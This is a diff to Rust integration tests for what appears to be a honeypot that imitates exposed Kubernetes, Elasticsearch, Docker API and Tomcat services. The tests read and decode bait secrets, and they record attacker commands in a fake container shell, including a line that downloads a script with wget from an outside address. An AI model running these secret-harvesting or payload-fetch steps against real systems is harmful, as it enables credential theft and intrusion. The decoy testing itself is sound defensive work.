@@ -222,6 +222,49 @@ fn curl_against_k8s_and_elasticsearch_shapes() {
     assert_eq!(v["kind"], "SecretList", "{body}");
     let ev = next_action(&d, "secrets_read");
     assert_eq!(ev["details"]["namespace"], "kube-system");
+    // Bait: the bootstrap token and the cluster-admin service-account token, base64 as the
+    // API serves them, and the event names what was handed out.
+    let names: Vec<&str> = v["items"]
+        .as_array()
+        .expect("items")
+        .iter()
+        .filter_map(|i| i["metadata"]["name"].as_str())
+        .collect();
+    assert!(names.contains(&"cluster-admin-token"), "{body}");
+    assert!(
+        names.iter().any(|n| n.starts_with("bootstrap-token-")),
+        "{body}"
+    );
+    assert_eq!(ev["details"]["bait"], serde_json::json!(names), "{ev}");
+    let body = curl(&[&url(
+        &d,
+        "/api/v1/namespaces/default/secrets/aws-credentials",
+    )]);
+    let secret: Value = serde_json::from_str(&body).expect("json");
+    assert_eq!(secret["kind"], "Secret", "{body}");
+    let key = secret["data"]["AWS_ACCESS_KEY_ID"].as_str().expect("key");
+    let (code, decoded) = run(
+        "sh",
+        &["-c", &format!("printf %s '{key}' | base64 -d")],
+        &[],
+        Duration::from_secs(5),
+    );
+    assert_eq!(code, Some(0));
+    assert!(
+        decoded.starts_with("AKIA") && decoded.len() == 20,
+        "{decoded}"
+    );
+    let ev = next_action(&d, "secrets_read");
+    assert_eq!(ev["details"]["secret"], "aws-credentials", "{ev}");
+    assert_eq!(
+        ev["details"]["bait"],
+        serde_json::json!(["aws-credentials"]),
+        "{ev}"
+    );
+    let nf = curl(&[&url(&d, "/api/v1/namespaces/default/secrets/nope")]);
+    let nf: Value = serde_json::from_str(&nf).expect("json");
+    assert_eq!(nf["message"], "secrets \"nope\" not found", "{nf}");
+    assert_eq!(nf["code"], 404, "{nf}");
     // The same port over TLS is the secure port: anonymous is forbidden, and the ClientHello
     // is fingerprinted.
     let body = curl(&["-k", &format!("https://127.0.0.1:{}/api", d.port)]);
@@ -252,6 +295,34 @@ fn curl_against_k8s_and_elasticsearch_shapes() {
     assert_eq!(v["tagline"], "You Know, for Search");
     let cat = curl(&[&url(&d, "/_cat/indices?v")]);
     assert!(cat.starts_with("health status index"), "{cat}");
+    let ev = next_action(&d, "indices_list");
+    assert_eq!(ev["details"]["indices"][2], "users", "{ev}");
+    let found: Value = serde_json::from_str(&curl(&[
+        "-H",
+        "Content-Type: application/json",
+        "-d",
+        r#"{"query":{"match":{"role":"superuser"}},"size":5}"#,
+        &url(&d, "/users/_search"),
+    ]))
+    .expect("json");
+    let hit = &found["hits"]["hits"][0]["_source"];
+    assert_eq!(hit["username"], "admin", "{found}");
+    assert_eq!(hit["email"], "admin@decoy-host.internal", "{found}");
+    assert!(
+        hit["api_key"]
+            .as_str()
+            .is_some_and(|k| k.starts_with("sk_live_") && k.len() == 40),
+        "{found}"
+    );
+    let ev = next_action(&d, "index_search");
+    assert_eq!(ev["details"]["index"], "users", "{ev}");
+    assert_eq!(ev["details"]["hits"], 3, "{ev}");
+    assert!(
+        ev["details"]["query"]
+            .as_str()
+            .is_some_and(|q| q.contains("superuser")),
+        "{ev}"
+    );
     let del = curl(&["-X", "DELETE", &url(&d, "/customers")]);
     assert!(del.contains("\"acknowledged\":true"), "{del}");
     let ev = next_action(&d, "index_delete");
@@ -404,6 +475,7 @@ fn nmap_from_a_namespace_names_the_real_ports() {
     let mut docker = ns.serve("docker_api", &[2375, 2376], None);
     let mut es = ns.serve("elasticsearch", &[9200], None);
     let mut web = ns.serve("http", &[80], Some(r#"{"fake_app":"wordpress"}"#));
+    let mut tomcat = ns.serve("http", &[8080], Some(r#"{"fake_app":"tomcat"}"#));
     let (code, out) = run(
         "ip",
         &[
@@ -415,14 +487,14 @@ fn nmap_from_a_namespace_names_the_real_ports() {
             "-Pn",
             "-n",
             "-p",
-            "80,2375,2376,9200",
+            "80,2375,2376,8080,9200",
             "127.0.0.1",
         ],
         &[],
         Duration::from_secs(200),
     );
     eprintln!("nmap in {} → {code:?}\n{out}", ns.0);
-    for c in [&mut docker, &mut es, &mut web] {
+    for c in [&mut docker, &mut es, &mut web, &mut tomcat] {
         let _ = c.kill();
         let _ = c.wait();
     }
@@ -450,10 +522,217 @@ fn nmap_from_a_namespace_names_the_real_ports() {
         l.contains(" http ") && l.contains("Apache httpd 2.4.41"),
         "{l}"
     );
+    // Tomcat sends no Server header: nmap knows it by its streamed default page.
+    let l = line("8080");
+    assert!(
+        l.contains(" http ") && l.contains("Apache Tomcat 9.0.65"),
+        "{l}"
+    );
     let l = line("9200");
     assert!(
         l.contains(" http ") && l.contains("Elasticsearch REST API 7.10.2"),
         "{l}"
     );
     assert!(!l.contains("ssl/"), "{l}");
+}
+
+/// `docker exec -i` with stdin from a pipe: the CLI hijacks `/exec/{id}/start` (`Upgrade:
+/// tcp`, 101) and the fake shell behind it runs each line, recorded as `command` events.
+#[test]
+fn docker_exec_gets_a_fake_shell_whose_commands_are_recorded() {
+    use std::io::Write as _;
+    let d = Decky::serve("docker_api", None);
+    let host = format!("tcp://127.0.0.1:{}", d.port);
+    let cfg = std::env::temp_dir().join(format!("http13-docker-exec-{}", std::process::id()));
+    std::fs::create_dir_all(&cfg).expect("docker config dir");
+    let mut child = Command::new("timeout")
+        .args(["30", "docker", "-H", &host, "exec", "-i", "web", "sh"])
+        .env("DOCKER_CONFIG", &cfg)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .expect("docker CLI (it comes with the daemon the deployer tests need)");
+    child
+        .stdin
+        .take()
+        .expect("stdin")
+        .write_all(b"id\nuname -a\ncat /etc/hostname\nexit\n")
+        .expect("write stdin");
+    let out = child.wait_with_output().expect("docker exec");
+    let text = String::from_utf8_lossy(&out.stdout);
+    eprintln!(
+        "docker exec -i → {:?}\n{text}{}",
+        out.status.code(),
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(out.status.code(), Some(0), "{text}");
+    assert!(
+        text.contains("uid=0(root) gid=0(root) groups=0(root)"),
+        "{text}"
+    );
+    assert!(text.contains("Linux "), "{text}");
+    let ev = next_action(&d, "exec_create");
+    assert_eq!(ev["details"]["command"], "sh", "{ev}");
+    let start = next_action(&d, "exec_start");
+    assert_eq!(start["details"]["tty"], false, "{start}");
+    let cmds: Vec<Value> = (0..4)
+        .map(|_| next_of(&d, "command")["details"]["command"].clone())
+        .collect();
+    assert_eq!(
+        cmds,
+        ["id", "uname -a", "cat /etc/hostname", "exit"].map(Value::from),
+        "the typed commands, in order"
+    );
+    // The container's host name is its short id, as `docker ps` shows it.
+    let (_, ps) = run(
+        "docker",
+        &["-H", &host, "ps", "--format", "{{.ID}} {{.Names}}"],
+        &[("DOCKER_CONFIG", &cfg.to_string_lossy())],
+        Duration::from_secs(20),
+    );
+    let web_id = ps
+        .lines()
+        .find_map(|l| l.strip_suffix(" web"))
+        .unwrap_or_default()
+        .to_owned();
+    assert!(!web_id.is_empty() && text.contains(&web_id), "{ps}\n{text}");
+    let _ = std::fs::remove_dir_all(&cfg);
+}
+
+/// `docker exec -it ID sh` and `docker run -it` under a pseudo-terminal (expect): a prompt,
+/// the typed line echoed and run, `exit` ends the session with status 0.
+#[test]
+fn docker_exec_and_run_with_a_tty_under_expect() {
+    let d = Decky::serve("docker_api", None);
+    let cfg = std::env::temp_dir().join(format!("http13-docker-tty-{}", std::process::id()));
+    std::fs::create_dir_all(&cfg).expect("docker config dir");
+    let script = format!(
+        r##"set timeout 20
+set env(DOCKER_CONFIG) "{cfg}"
+spawn docker -H tcp://127.0.0.1:{port} exec -it web sh
+expect "# "
+send "id\r"
+expect "uid=0(root)"
+expect "# "
+send "wget http://203.0.113.9/x.sh\r"
+expect "# "
+send "exit\r"
+expect eof
+catch wait r
+puts "EXEC_STATUS=[lindex $r 3]"
+spawn docker -H tcp://127.0.0.1:{port} run -it --rm alpine /bin/bash
+expect -re "root@\[0-9a-f\]{{12}}:/# "
+send "whoami\r"
+expect "# "
+send "exit\r"
+expect eof
+catch wait r
+puts "RUN_STATUS=[lindex $r 3]"
+"##,
+        cfg = cfg.display(),
+        port = d.port
+    );
+    let mut cmd = tool_with_timeout("expect", "expect", 90);
+    let out = cmd.args(["-c", &script]).output().expect("expect");
+    let text = String::from_utf8_lossy(&out.stdout);
+    eprintln!("{text}{}", String::from_utf8_lossy(&out.stderr));
+    assert!(text.contains("EXEC_STATUS=0"), "{text}");
+    assert!(text.contains("RUN_STATUS=0"), "{text}");
+    let start = next_action(&d, "exec_start");
+    assert_eq!(start["details"]["tty"], true, "{start}");
+    assert_eq!(next_of(&d, "command")["details"]["command"], "id");
+    assert_eq!(
+        next_of(&d, "command")["details"]["command"],
+        "wget http://203.0.113.9/x.sh"
+    );
+    let ev = next_action(&d, "container_create");
+    assert_eq!(ev["details"]["image"], "alpine", "{ev}");
+    next_action(&d, "container_attach");
+    loop {
+        let c = next_of(&d, "command");
+        if c["details"]["command"] == "whoami" {
+            break;
+        }
+    }
+    let _ = std::fs::remove_dir_all(&cfg);
+}
+
+/// kubectl against the insecure port: discovery maps `secrets` to its path, the bait secrets
+/// list across namespaces, one is read and decoded, and each read is a `secrets_read` event.
+#[test]
+fn kubectl_reads_the_bait_secrets() {
+    let d = Decky::serve("k8s", None);
+    let dir = std::env::temp_dir().join(format!("http13-kubectl-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).expect("kubeconfig dir");
+    let cfg = dir.join("config");
+    std::fs::write(
+        &cfg,
+        format!(
+            "apiVersion: v1\nkind: Config\nclusters: [{{name: c, cluster: {{server: \"http://127.0.0.1:{}\"}}}}]\n\
+             contexts: [{{name: c, context: {{cluster: c, user: u}}}}]\nusers: [{{name: u, user: {{}}}}]\ncurrent-context: c\n",
+            d.port
+        ),
+    )
+    .expect("kubeconfig");
+    let cfg = cfg.to_string_lossy().into_owned();
+    let home = dir.to_string_lossy().into_owned();
+    let kubectl = |args: &[&str]| {
+        let mut all = vec!["--kubeconfig", cfg.as_str()];
+        all.extend_from_slice(args);
+        let mut cmd = tool_with_timeout("kubectl", "kubernetes-client", 30);
+        let out = cmd.args(&all).env("HOME", &home).output().expect("kubectl");
+        let text = String::from_utf8_lossy(&out.stdout).into_owned();
+        eprintln!(
+            "kubectl {args:?} → {:?}\n{text}{}",
+            out.status.code(),
+            String::from_utf8_lossy(&out.stderr)
+        );
+        assert_eq!(out.status.code(), Some(0), "kubectl {args:?}");
+        text
+    };
+    // The server-side table kubectl asks for: NAME, TYPE, DATA, AGE.
+    let list = kubectl(&["get", "secrets", "-A"]);
+    let header = list.lines().next().unwrap_or_default();
+    let cols: Vec<&str> = header.split_whitespace().collect();
+    assert_eq!(cols, ["NAMESPACE", "NAME", "TYPE", "DATA", "AGE"], "{list}");
+    let row = list
+        .lines()
+        .find(|l| l.contains("cluster-admin-token"))
+        .unwrap_or_default();
+    assert!(
+        row.starts_with("kube-system") && row.contains("kubernetes.io/service-account-token"),
+        "{list}"
+    );
+    assert!(list.contains("aws-credentials"), "{list}");
+    let ev = next_action(&d, "secrets_read");
+    assert!(
+        ev["details"]["bait"]
+            .as_array()
+            .is_some_and(|b| b.iter().any(|n| n == "default/aws-credentials")),
+        "{ev}"
+    );
+    let key = kubectl(&[
+        "-n",
+        "default",
+        "get",
+        "secret",
+        "db-credentials",
+        "-o",
+        "jsonpath={.data.DATABASE_URL}",
+    ]);
+    let (_, url) = run(
+        "sh",
+        &["-c", &format!("printf %s '{}' | base64 -d", key.trim())],
+        &[],
+        Duration::from_secs(5),
+    );
+    assert!(
+        url.starts_with("postgresql://app:")
+            && url.ends_with("@postgres.default.svc.cluster.local:5432/app"),
+        "{url}"
+    );
+    let ev = next_action(&d, "secrets_read");
+    assert_eq!(ev["details"]["secret"], "db-credentials", "{ev}");
+    let _ = std::fs::remove_dir_all(&dir);
 }
